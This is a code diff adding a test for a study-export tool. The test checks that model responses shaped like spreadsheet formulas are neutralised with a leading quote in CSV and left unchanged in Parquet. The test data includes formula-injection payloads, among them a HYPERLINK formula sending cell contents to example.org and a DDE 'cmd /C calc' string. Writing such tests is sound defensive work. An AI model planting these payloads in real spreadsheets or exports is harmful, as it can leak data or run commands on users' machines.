@@ -11,6 +11,14 @@ import { openStudy } from "src/study/open_study.ts";
 import { readCsv } from "src/tables/csv.ts";
 import { fromFrame } from "src/tables/frame.ts";
 import { readParquet } from "src/tables/parquet.ts";
+import { exportStudy } from "src/exports/export_study.ts";
+import { importResponses } from "src/study/import_responses.ts";
+import {
+  askedTable,
+  options,
+  recorded,
+  write,
+} from "../study/import_workspace.ts";
 import { exported, pilot } from "./pilot.ts";
 
 const TABLES = {
@@ -65,4 +73,48 @@ Deno.test("the tables are those of the study", async () => {
     fromFrame(await study.frame("responses"), Response),
   );
   study.close();
+});
+
+Deno.test("no spreadsheet computes what a model said, and Parquet has it as it is", async () => {
+  const said: [text: string, in_csv: string][] = [
+    ['=HYPERLINK("http://example.org/?"&A1,"here")', "'"],
+    ["+1+cmd|' /C calc'!A0", "'"],
+    ["@SUM(1+1)*cmd", "'"],
+    ["-2+3", "'"],
+    ["\t=1+1", "'"],
+    ["\r=1+1", "'"],
+    ["＝1+1", "'"],
+    ["- a list", "'"],
+    ["-5", ""],
+    ["+3.2 %", ""],
+    ["-1,000", ""],
+    ["'=1", ""],
+    ["a=1", ""],
+    ["", ""],
+  ];
+  const home = await recorded();
+  const rows = await askedTable(home);
+  said.forEach(([text], i) => rows[i]!.text = text);
+  await importResponses(write(home, rows), options(home));
+  const texts = async (format: "csv" | "parquet") => {
+    const out = join(home, format);
+    const { folder } = await exportStudy("pilot", { home, format, out });
+    const path = join(folder, `responses.${format}`);
+    const read = format === "csv" ? readCsv : readParquet;
+    return new Map(
+      read(path, Response).map(({ checkpoint_id, item_id, text }) => [
+        `${checkpoint_id} ${item_id}`,
+        text!,
+      ]),
+    );
+  };
+  const [csv, parquet] = [await texts("csv"), await texts("parquet")];
+  assert.equal(csv.size, rows.length);
+  const marks = new Map(said.map(([text, mark]) => [text, mark]));
+  const seen = new Set<string>();
+  for (const [key, text] of parquet) {
+    assert.equal(csv.get(key), (marks.get(text) ?? "") + text);
+    if (marks.has(text)) seen.add(text);
+  }
+  assert.equal(seen.size, said.length);
 });
